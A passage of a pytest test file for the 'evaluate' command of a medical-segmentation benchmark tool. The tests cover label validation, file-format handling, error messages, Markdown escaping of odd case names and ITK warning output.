    assert frame["dice"].iloc[1] == 0.0 and frame["dice"].iloc[4] == 1.0
    for name in ("a", "b"):  # a task label that nothing holds still has its (both-empty) rows
        write(ref_dir, name, np.zeros((6, 10, 10), np.uint8))
        write(pred_dir, name, np.zeros((6, 10, 10), np.uint8))
    empty = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv",
                   "--task", "Task04_Hippocampus")
    assert empty.exit_code == 0, empty.output
    assert pd.read_csv(io.StringIO(empty.stdout))["label"].tolist() == [1, 2, 1, 2, 1, 2]


@pytest.mark.parametrize("role", ["pred", "ref"])
def test_task_refuses_a_value_it_does_not_have(spurious_folders, role):
    pred_dir, ref_dir = spurious_folders
    folder = pred_dir if role == "pred" else ref_dir
    odd = np.zeros((6, 10, 10), np.uint8)
    odd[1:4, 2:7, 2:7] = 1
    odd[0, 0, 0] = 3
    write(folder, "b", odd)
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--task", "Task04_Hippocampus")
    assert result.exit_code == 3, result.output
    assert result.stderr == (f"error: {folder / 'b.nii.gz'}: label values [3] not among Task04_Hippocampus's "
                             "labels (0, 1, 2)\n")
    assert result.stdout == ""
    without = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv")
    assert without.exit_code == 0 and 3 in pd.read_csv(io.StringIO(without.stdout))["label"].tolist()


def test_task_refuses_a_labels_value_it_does_not_have(spurious_folders):
    pred_dir, ref_dir = spurious_folders
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--task", "Task04_Hippocampus",
                    "--labels", "1,3")
    assert result.exit_code == 2, result.output
    assert result.stderr == "error: --labels: label 3 is not a label of Task04_Hippocampus (1=Anterior, " \
                            "2=Posterior)\n"


def test_upper_case_suffixes_are_read_and_a_missing_metaimage_data_file_is_named(folders, tmp_path):
    """ITK reads `A.NII.GZ`: it was ignored (a reference there was reported missing); an `.mhd` without the
    data file its header names said `cannot open data file` without naming the file."""
    import SimpleITK as sitk

    pred_dir, ref_dir = folders
    expected = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv").stdout
    upper = tmp_path / "upper"
    upper.mkdir()
    for name in ("a", "b"):
        (upper / f"{name}.NII.GZ").write_bytes((ref_dir / f"{name}.nii.gz").read_bytes())
    result = invoke("--pred", str(pred_dir), "--ref", str(upper), "--format", "csv")
    assert result.exit_code == 0, result.output
    assert result.stdout == expected
    metaimage = tmp_path / "mhd"
    metaimage.mkdir()
    for name in ("a", "b"):
        sitk.WriteImage(sitk.ReadImage(str(pred_dir / f"{name}.nii.gz")), str(metaimage / f"{name}.mhd"))
    (metaimage / "b.raw").unlink()
    missing = invoke("--pred", str(metaimage), "--ref", str(ref_dir))
    assert missing.exit_code == 3
    assert missing.stderr == (f"error: {metaimage / 'b.mhd'}: its data file b.raw (ElementDataFile) is "
                              "missing; keep it beside the header\n")


def test_a_format_the_output_name_contradicts_is_refused_as_by_report(folders, tmp_path: Path) -> None:
    # `--format csv -o scores.json` wrote CSV into a .json file (report refused the same).
    pred_dir, ref_dir = folders
    output = tmp_path / "scores.json"
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv", "-o", str(output))
    assert result.exit_code == 2, result.output
    assert result.output.strip().splitlines()[-1] == (
        f"error: --format csv but --output {output} is a .json name: drop --format, or name the file .csv")
    assert not output.exists()


def test_label_maps_of_background_only_are_one_line_not_a_traceback(tmp_path):
    # No --labels, --task or --regions and no nonzero voxel anywhere: nothing to score (a KeyError traceback,
    # exit 1, until 2026-12-03); with --labels, the label is scored both-empty as before.
    pred_dir, ref_dir = tmp_path / "pred", tmp_path / "ref"
    empty = np.zeros((4, 6, 6), np.uint8)
    for name in ("a", "b"):
        write(pred_dir, name, empty)
        write(ref_dir, name, empty)
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv")
    assert result.exit_code == 3, result.output
    assert "nothing to score: no reference in" in result.stderr and "give --labels or --task" in result.stderr
    assert "Traceback" not in result.output
    labelled = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv", "--labels", "1")
    assert labelled.exit_code == 0, labelled.output
    assert pd.read_csv(io.StringIO(labelled.stdout))["label"].tolist() == [1, 1, 1]


def test_a_pred_or_ref_that_is_no_folder_is_named_with_its_option(tmp_path: Path) -> None:
    # A file given for --pred was "prediction folder not found", exit 3; predict's --images said it as here.
    afile, folder = tmp_path / "afile", tmp_path / "folder"
    afile.write_text("x")
    folder.mkdir()
    (tmp_path / "dangling").symlink_to(tmp_path / "gone")
    for args, line in (
            (["--pred", str(afile), "--ref", str(folder)], f"{afile}: --pred is not a folder (a file)"),
            (["--pred", str(folder), "--ref", str(tmp_path / "nope")],
             f"{tmp_path / 'nope'}: --ref is not a folder (no such folder)"),
            (["--pred", str(tmp_path / "dangling"), "--ref", str(folder)],
             f"{tmp_path / 'dangling'}: --pred is not a folder (a link to {tmp_path / 'gone'}, which does "
             "not exist)")):
        result = runner.invoke(app, ["evaluate", *args])
        assert result.exit_code == 2 and result.stderr == f"error: {line}\n", result.output
    predicted = runner.invoke(app, ["predict", str(folder), "--images", str(afile), "--out",
                                    str(tmp_path / "o")])
    assert predicted.exit_code == 2
    assert predicted.stderr == f"error: {afile}: --images is not a folder (a file)\n"


def test_markdown_escapes_case_names_as_the_report_does(folders, tmp_path: Path) -> None:
    # a case `a|b` added a column to its row, `**bold**` rendered bold and an escape code reached the file
    pred_dir, ref_dir = folders
    names = ["a|b", "**bold**", "ev\x1b[31mil"]
    for name in names:
        for folder in (pred_dir, ref_dir):
            (folder / f"{name}.nii.gz").write_bytes((folder / "b.nii.gz").read_bytes())
    out = tmp_path / "scores.md"
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--output", str(out))
    assert result.exit_code == 0, result.output
    text = out.read_text()
    rows = [line for line in text.splitlines() if line.startswith("|")]
    assert {len(re.findall(r"(?<!\\)\|", row)) for row in rows[:2 + 2 * 5]} == {len(METRIC_NAMES) + 5}
    assert "| a\\|b | 1 |" in text and "| \\*\\*bold\\*\\* | 1 |" in text
    assert "\x1b" not in text and "| ev\\\\x1b[31mil | 1 |" in text  # shows as `ev\x1b[31mil`


def test_a_case_named_mean_is_told_from_the_means(folders, tmp_path: Path) -> None:
    # its rows were `mean,1,...` as the means' were: the means' case is empty now, which no case id is
    import csv

    pred_dir, ref_dir = folders
    for folder in (pred_dir, ref_dir):
        (folder / "mean.nii.gz").write_bytes((folder / "a.nii.gz").read_bytes())
    result = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [(row["case"], row["label"]) for row in rows] == [
        ("a", "1"), ("a", "2"), ("b", "1"), ("b", "2"), ("mean", "1"), ("mean", "2"), ("", "1"), ("", "2")]
    assert [row["ref_empty"] for row in rows[-2:]] == ["", ""]
    as_json = invoke("--pred", str(pred_dir), "--ref", str(ref_dir), "--format", "json")
    payload = json.loads(as_json.stdout)  # cases and means apart, as they were
    assert [row["case"] for row in payload["cases"]].count("mean") == 2
    assert [row["label"] for row in payload["means"]] == [1, 2] and "case" not in payload["means"][0]


def test_an_empty_ref_folder_is_named_as_an_empty_pred_folder_is(folders, tmp_path: Path) -> None:
    # it was the first prediction's "no reference of case 'a' in EMPTY", as if one case lacked its file
    pred_dir, ref_dir = folders
    empty = tmp_path / "empty"
    empty.mkdir()
    suffixes = "(*.nii.gz, *.nii, *.nrrd, *.mha, *.mhd)"
    no_refs = invoke("--pred", str(pred_dir), "--ref", str(empty))
    assert no_refs.exit_code == 3 and no_refs.stderr == f"error: {empty}: no reference files {suffixes}\n"
    no_preds = invoke("--pred", str(empty), "--ref", str(ref_dir))
    assert no_preds.exit_code == 3 and no_preds.stderr == f"error: {empty}: no prediction files {suffixes}\n"


@pytest.mark.parametrize("workers", ["1", "2"])
def test_a_slightly_non_orthogonal_direction_prints_nothing_on_stderr(folders, workers, capfd) -> None:
    """A direction 5e-4 off orthogonal, within the 1e-3 tolerance: scored without a word. ITK's warning
    "Non-orthogonal direction matrix coerced to orthogonal" is its NIfTI writer's (SimpleITK's WriteImage
    that made the file prints it); evaluate only reads. Run in a new process, where ITK's warnings are on
    until medseg-bench turns them off, and read at the file descriptor, where ITK writes."""
    import subprocess
    import sys

    import SimpleITK as sitk

    pred_dir, ref_dir = folders
    image = sitk.ReadImage(str(pred_dir / "a.nii.gz"))
    direction = list(image.GetDirection())
    direction[1] = 5e-4
    image.SetDirection(direction)
    (pred_dir / "a.nii.gz").unlink()
    sitk.WriteImage(image, str(pred_dir / "a.mha"))  # kept as it is: ITK reads it 5e-4 off orthogonal
    sitk.WriteImage(image, str(pred_dir / "c.nii.gz"))  # coerced to orthogonal as written
    sitk.WriteImage(sitk.ReadImage(str(ref_dir / "a.nii.gz")), str(ref_dir / "c.nii.gz"))
    capfd.readouterr()  # what the writes printed
    result = subprocess.run([sys.executable, "-m", "medseg_bench", "evaluate", "--pred", str(pred_dir),
                             "--ref", str(ref_dir), "--workers", workers, "--format", "csv"],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert result.stderr == ("note: label 2: 1 of 3 cases has both masks empty (metrics NaN, left out of the "
                             "mean)\n")
    rows_of = pd.read_csv(io.StringIO(result.stdout))["case"].value_counts()
    assert rows_of[["a", "b", "c"]].tolist() == [2, 2, 2]
